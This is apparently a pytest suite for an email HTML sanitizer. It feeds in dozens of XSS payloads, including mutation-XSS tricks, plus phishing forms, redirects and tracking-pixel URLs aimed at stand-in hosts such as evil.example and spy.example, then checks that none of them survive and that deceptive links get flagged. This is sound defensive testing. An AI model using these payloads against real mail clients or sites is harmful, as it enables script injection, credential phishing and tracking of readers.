"""HTML that wants to harm, through both steps: cleaned when it comes, made ready when it is shown."""

from __future__ import annotations

import re

import pytest

from idic.domain.interact.mail.parsing.cleaning import cleaned
from idic.doors.web.cases.sheet import sheet_of

_RUNS = re.compile(
    r"<(script|iframe|object|embed|form|input|button|meta|base|link|svg|math|style|video|audio|source)\b|\son\w+=|javascript:"
    r"|url\(|@import|expression\(|srcset|background=|position|z-index|src=\"(?!cid:|data:image/(png|gif|jpeg|webp);|/kept/)",
    re.I,
)


def shown(html: str) -> str:
    clean, _remote = cleaned(html)
    return str(sheet_of(clean, {"photo": "/kept/1/"}).html)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="java\tscript:alert(1)">a</a>',
        "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg/onload=alert(1)>", "<math><mi//xlink:href='data:x,y'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<img src=`javascript:alert(1)`>",
        "<form action=//evil.example><input name=password><button>Go</button></form>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/a.css>",
        "<style>@import '//evil.example/a.css'; body{display:none}</style>",
        "<div style='position:fixed;inset:0;z-index:99'>x</div>",
        "<div style='background:url(//spy.example/a.gif)'>x</div>", "<div style='background-image:\\75rl(//spy.example)'>x</div>",
        "<div style='color:red;/**/background/**/:/**/url(//spy.example)'>x</div>", "<td background=//spy.example/a.gif>x</td>",
        "<img srcset='//spy.example/a.gif 2x' src=//spy.example/b.gif>", "<img src=http://spy.example/1.gif width=1 height=1>",
        "<img src='/cases/1/files/2/'>", "<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img src='data:text/html,<script>'>",
        "<video poster=//spy.example autoplay><source src=//spy.example></video>", "<audio src=//spy.example>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=//evil.example></object><embed src=//evil.example>",
        '<p title="&quot; onmouseover=&quot;alert(1)">x</p>',
        "<a href='https://a.example' onclick=alert(1) style='position:fixed'>a</a>",
        "<div style='margin-top:-900px;width:expression(alert(1))'>x</div>", "<img alt='<img src=x onerror=alert(1)>'>",
        "<blockquote></details><script>alert(1)</script>", "</div></body></html><script>alert(1)</script>",
        "<template><img src=x onerror=alert(1)></template>", "<select><style></select><img src=x onerror=alert(1)></style>",
    ],
)  # fmt: skip
def test_nothing_runs_loads_or_lies_over_the_page(html: str) -> None:
    found = shown(html)
    # words of the mail are harmless, escaped as they are
    tags = "".join(re.findall(r"<[^>]*>", found))
    assert not _RUNS.search(tags), found
    assert found.count("<details") == found.count("</details>")


def test_pictures_that_came_along_and_those_that_tell() -> None:
    clean, _remote = cleaned(
        '<img src="CID:photo" alt="ours"><img src="https://spy.example/logo.png" alt="Logo"><img src="//spy.example/1.gif">'
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
    )
    sheet = sheet_of(clean, {"photo": "/kept/1/"})
    assert sheet.left_out == 2
    assert 'src="/kept/1/"' in sheet.html
    assert '<span class="left-out">Logo</span>' in sheet.html
    assert "data:image/gif" in sheet.html
    assert "spy.example" not in sheet.html


@pytest.mark.parametrize(
    ("link", "told"),
    [
        ('<a href="https://evil.example/login">www.bank.example</a>', "leads-to leads-elsewhere"),
        ('<a href="https://bank.example@evil.example/">https://bank.example</a>', "leads-to leads-elsewhere"),
        ('<a href="https://shop.example/a">our offer</a>', 'class="leads-to">[shop.example]'),
        ('<a href="https://shop.example/a">shop.example</a>', ""),
        ('<a href="https://gооgle.example">google</a>', "[xn--ggle-55da.example]"),
        ('<a href="mailto:Desk@example.org?subject=x">write</a>', "[desk@example.org]"),
    ],
)
def test_links_say_where_they_lead(link: str, told: str) -> None:
    found = shown(link)
    assert 'rel="noopener noreferrer nofollow"' in found
    assert 'target="_blank"' in found
    assert told in found if told else "leads-to" not in found


def test_looks_that_harm_nobody_stay_and_words_stay_readable() -> None:
    found = shown(
        '<table bgcolor="#112233"><tr>'
        '<td style="color:#fff;background:#000 url(http://x.example/a.png) no-repeat">a</td></tr></table>'
        '<p style="background:url(http://x.example/b.png);color:white">b</p><font color="red">c</font>'
    )
    for kept in (
        'bgcolor="#112233"',
        "color:#fff;background-color:#000",
        "background-color:#767676;color:white",
        'color="red"',
    ):
        assert kept in found


def test_quotes_are_folded_unless_there_is_nothing_else() -> None:
    assert "<details class" in shown("<p>New</p><blockquote>Old<blockquote>Older</blockquote></blockquote>")
    assert "<details open" in shown("<blockquote>Only this</blockquote>")
